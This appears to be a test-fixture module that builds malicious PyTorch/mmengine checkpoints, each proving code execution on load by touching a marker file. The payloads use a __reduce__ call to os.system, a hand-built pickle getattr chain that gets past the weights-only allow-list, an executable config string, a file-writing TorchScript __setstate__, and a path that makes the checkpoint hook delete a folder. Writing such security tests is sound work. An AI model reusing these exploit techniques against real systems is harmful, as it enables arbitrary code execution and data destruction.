"""Crafted checkpoints that try to run a shell command when loaded; each touches ``marker`` if it works.

- :func:`reduce_payload`: the classic ``__reduce__`` calling ``os.system``.
- :func:`getattr_chain_payload`: only types visionkit (up to 924e601) allow-listed for torch's
  weights-only unpickler: ``getattr`` walks from ``ConfigDict.__init__.__globals__`` to ``os``, writes
  ``__getattr__ = os.system`` into the ``builtins`` module's dict and triggers it.
- :func:`config_string_payload`: a valid Runner checkpoint whose ``meta['config']`` is Python that
  mmengine's ``Runner.resume`` executes through ``Config.fromstring``.
- :func:`torchscript_payload`: a TorchScript archive saved as ``.pth``; ``torch.load`` hands it to
  ``torch.jit.load``, which runs its ``__setstate__``: ``torch.from_file(shared=True)`` creates (and
  could overwrite) any file.
- :func:`path_naming_payload`: plain data only, whose message hub names a folder as the previous best
  checkpoint; mmengine's CheckpointHook deleted it on resume at the first better validation score.
"""

from __future__ import annotations

import os
import pickle
import struct
import warnings
from pathlib import Path

import torch


def pickle_string(text: str) -> bytes:
    data = text.encode()
    return pickle.BINUNICODE + struct.pack("<I", len(data)) + data


class PickleAssembler:
    """A tiny pickle assembler: globals, calls through REDUCE, memo slots."""

    def __init__(self) -> None:
        self.code = bytearray(pickle.PROTO + b"\x02")
        self.slots = 0

    def glob(self, module: str, name: str) -> PickleAssembler:
        self.code += pickle.GLOBAL + f"{module}\n{name}\n".encode()
        return self

    def put(self) -> int:
        self.code += pickle.LONG_BINPUT + struct.pack("<I", self.slots)
        self.slots += 1
        return self.slots - 1

    def get(self, slot: int) -> PickleAssembler:
        self.code += pickle.LONG_BINGET + struct.pack("<I", slot)
        return self

    def str(self, text: str) -> PickleAssembler:
        self.code += pickle_string(text)
        return self

    def call2(self, func: int, a: int | str, b: int | str) -> int:
        """memo[func](a, b) (each argument a memo slot or a string) -> a new memo slot."""
        self.get(func)
        for arg in (a, b):
            self.get(arg) if isinstance(arg, int) else self.str(arg)
        self.code += pickle.TUPLE2 + pickle.REDUCE
        return self.put()  # results stay on the stack: torch's unpickler has no POP

    def setitem(self, mapping: int, key: str, value: int) -> None:
        self.get(mapping).str(key).get(value)
        self.code += pickle.SETITEM


def getattr_chain_bytes(command: str) -> bytes:
    ops = PickleAssembler()
    getattr_ = (ops.glob("builtins", "getattr"), ops.put())[1]
    config_dict = (ops.glob("mmengine.config.config", "ConfigDict"), ops.put())[1]
    init = ops.call2(getattr_, config_dict, "__init__")
    module_globals = ops.call2(getattr_, init, "__globals__")
    dict_get = ops.call2(getattr_, module_globals, "get")
    builtins_module = ops.call2(getattr_, getattr_, "__self__")
    builtins_dict = ops.call2(getattr_, builtins_module, "__dict__")
    ops.setitem(builtins_dict, "__getattr__", dict_get)  # builtins.<missing> -> config module's globals
    os_module = ops.call2(getattr_, builtins_module, "os")
    system = ops.call2(getattr_, os_module, "system")
    ops.setitem(builtins_dict, "__getattr__", system)  # builtins.<missing> -> os.system(<missing>)
    ops.call2(getattr_, builtins_module, command)
    ops.code += (
        pickle.EMPTY_DICT + pickle_string("state_dict") + pickle.EMPTY_DICT + pickle.SETITEM + pickle.STOP
    )
    return bytes(ops.code)


class _RawPickler:
    """Stands in for ``pickle.Pickler`` in ``torch.save``: writes prepared bytes as ``data.pkl``."""

    payload = b""

    def __init__(self, file, protocol=None) -> None:
        self.file = file

    def dump(self, obj) -> None:
        self.file.write(self.payload)


def save_raw_pickle(path: Path, payload: bytes) -> Path:
    """A torch zip checkpoint whose ``data.pkl`` is ``payload``."""
    module = type("raw_pickle", (), {"Pickler": type("P", (_RawPickler,), {"payload": payload})})
    module.__name__ = "raw_pickle"
    torch.save({}, path, pickle_module=module)
    return path


class _RunsShell:
    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self):
        return (os.system, (self.command,))


def reduce_payload(path: Path, marker: Path) -> Path:
    torch.save({"state_dict": {}, "meta": {"note": _RunsShell(f"touch {marker}")}}, path)
    return path


def getattr_chain_payload(path: Path, marker: Path) -> Path:
    return save_raw_pickle(path, getattr_chain_bytes(f"touch {marker}"))


class _WritesFile(torch.nn.Module):
    def __init__(self, target: str) -> None:
        super().__init__()
        self.target = target

    @torch.jit.export
    def __getstate__(self) -> str:
        return self.target

    @torch.jit.export
    def __setstate__(self, target: str) -> None:
        self.target = target
        self.training = False
        torch.from_file(target, shared=True, size=1, dtype=torch.uint8).fill_(33)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x


def torchscript_payload(path: Path, marker: Path) -> Path:
    with warnings.catch_warnings():  # torch.jit.script is deprecated, not gone
        warnings.simplefilter("ignore", FutureWarning)
        torch.jit.script(_WritesFile(str(marker))).save(str(path))
    return path


def config_string_payload(path: Path, marker: Path, state_dict: dict, epoch: int = 1) -> Path:
    """A plain-data Runner checkpoint (``meta``, ``state_dict``, ``message_hub``) with a hostile config."""
    config = f"status = __import__('os').system('touch {marker}')\ngpu_ids = [0]\n"
    checkpoint = {
        "meta": {"epoch": epoch, "iter": epoch, "config": config},
        "state_dict": state_dict,
        "message_hub": {"log_scalars": {}, "runtime_info": {}, "resumed_keys": {}},
    }
    torch.save(checkpoint, path)
    return path


def path_naming_payload(path: Path, victim: Path, state_dict: dict, epoch: int = 1) -> Path:
    """A plain-data Runner checkpoint whose ``message_hub`` names ``victim`` as the best checkpoint."""
    runtime_info = {"best_ckpt": str(victim), "best_score": float("-inf"), "keep_ckpt_ids": [epoch, 10**6]}
    checkpoint = {
        "meta": {"epoch": epoch, "iter": epoch},
        "state_dict": state_dict,
        "message_hub": {"log_scalars": {}, "runtime_info": runtime_info, "resumed_keys": {}},
    }
    torch.save(checkpoint, path)
    return path
